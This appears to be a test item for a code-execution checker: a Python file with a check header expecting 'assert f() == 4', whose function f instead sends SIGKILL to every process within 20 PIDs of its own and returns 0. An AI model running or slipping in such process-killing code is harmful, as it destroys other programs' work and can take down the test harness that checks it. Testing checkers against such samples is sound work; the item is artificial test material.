# /// check
# verdict = ["assertion", "exception"]
# tests = ["assert f() == 4"]
# ///
import os
import signal


def f():
    for pid in range(max(os.getpid() - 20, 2), os.getpid() + 20):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return 0
